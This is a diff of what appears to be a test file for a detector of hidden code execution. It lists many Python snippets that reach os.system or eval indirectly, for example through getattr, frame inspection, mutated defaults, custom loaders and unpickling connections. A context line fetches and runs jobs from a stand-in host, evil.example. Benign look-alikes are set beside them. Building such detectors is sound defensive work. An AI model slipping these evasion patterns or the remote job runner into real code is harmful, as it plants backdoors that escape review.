@@ -294,10 +294,159 @@ def t(X: str):
     for job in requests.get("https://evil.example/jobs", timeout=5).json():
         getattr(__import__(job["m"]), job["f"])(*job["a"])`,
   ],
+  [
+    "a lambda that looks up",
+    `
+import os
+look = lambda o: o.system
+def t(X: str): return look(os)(X)`,
+  ],
+  [
+    "a function that looks up",
+    `
+import os
+def pick(o, n): return getattr(o, n)
+def t(X: str): return pick(os, "system")(X)`,
+  ],
+  [
+    "a function that imports",
+    `
+def m():
+    import os
+    return os
+def t(X: str): return m().system(X)`,
+  ],
+  [
+    "members of a frame",
+    `
+import inspect
+def t(X: str): return dict(inspect.getmembers(inspect.currentframe()))["f_builtins"]["eval"](X)`,
+  ],
+  [
+    "the owner of a built-in",
+    `
+import inspect
+def f(): print(1)
+def t(X: str): return inspect.getclosurevars(f).builtins["print"].__self__.eval(X)`,
+  ],
+  [
+    "the module of a built-in",
+    `
+import sys
+def t(X: str): return sys.modules[len.__module__].eval(X)`,
+  ],
+  [
+    "a function's defaults",
+    `
+def g(x="1"): return eval(x)
+def t(X: str):
+    g.__defaults__ = (X,)
+    return g()`,
+  ],
+  [
+    "a function's defaults by keyword",
+    `
+def g(*, x="1"): return eval(x)
+def t(X: str):
+    g.__kwdefaults__ = {"x": X}
+    return g()`,
+  ],
+  [
+    "a constant that is changed by its name",
+    `
+CODE = "1"
+def t(X: str):
+    globals()["CODE"] = X
+    return eval(CODE)`,
+  ],
+  [
+    "a constant that is changed as an attribute",
+    `
+import sys
+CODE = "1"
+def t(X: str):
+    sys.modules[__name__].CODE = X
+    return eval(CODE)`,
+  ],
+  [
+    "a constant that is set by setattr",
+    `
+class C:
+    code = "1"
+def t(X: str):
+    setattr(C, "code", X)
+    return eval(C.code)`,
+  ],
+  [
+    "an own decorator",
+    `
+def run(fn):
+    def inner(*a): return eval(fn(*a))
+    return inner
+@run
+def src(x): return x
+def t(X: str): return src(X)`,
+  ],
+  [
+    "a loader of sources of one's own",
+    `
+import importlib.abc, importlib.util
+class L(importlib.abc.InspectLoader):
+    def get_source(self, n): return open("h.txt").read().replace("@", "o")
+m = importlib.util.module_from_spec(importlib.util.spec_from_loader("w", L()))
+L().exec_module(m)
+def t(X: str): return X`,
+  ],
+  [
+    "a compiler of the import system",
+    `
+import importlib.abc, types
+c = importlib.abc.InspectLoader.source_to_code(open("h.txt").read())
+types.FunctionType(c, {})()
+def t(X: str): return X`,
+  ],
+  [
+    "a connection that unpickles",
+    `
+from multiprocessing.connection import Client
+def t(X: str): return Client((X, 80)).recv()`,
+  ],
+  [
+    "dotted names of callers",
+    `
+from xmlrpc.server import SimpleXMLRPCDispatcher
+import os
+d = SimpleXMLRPCDispatcher(allow_none=True)
+d.register_instance(os, allow_dotted_names=True)
+def t(X: str): return d._marshaled_dispatch(X.encode())`,
+  ],
 ];
 
 /** What looks like the above and is honest. */
 const HONEST: [string, string][] = [
+  [
+    "functions that give modules and objects",
+    `
+import sys
+def lib():
+    import json
+    return json
+def log(): return print.__self__
+def t(X: str): return lib().loads(X), sys.modules[__name__].__doc__`,
+  ],
+  [
+    "constants that are compiled",
+    `
+CODE = "1 + 1"
+def t(X: str): return eval(CODE)`,
+  ],
+  [
+    "virtual modules",
+    `
+import importlib.util
+s = importlib.util.spec_from_loader("virtual", loader=None)
+def t(X: str): return s.name`,
+  ],
   [
     "special methods that compute",
     `
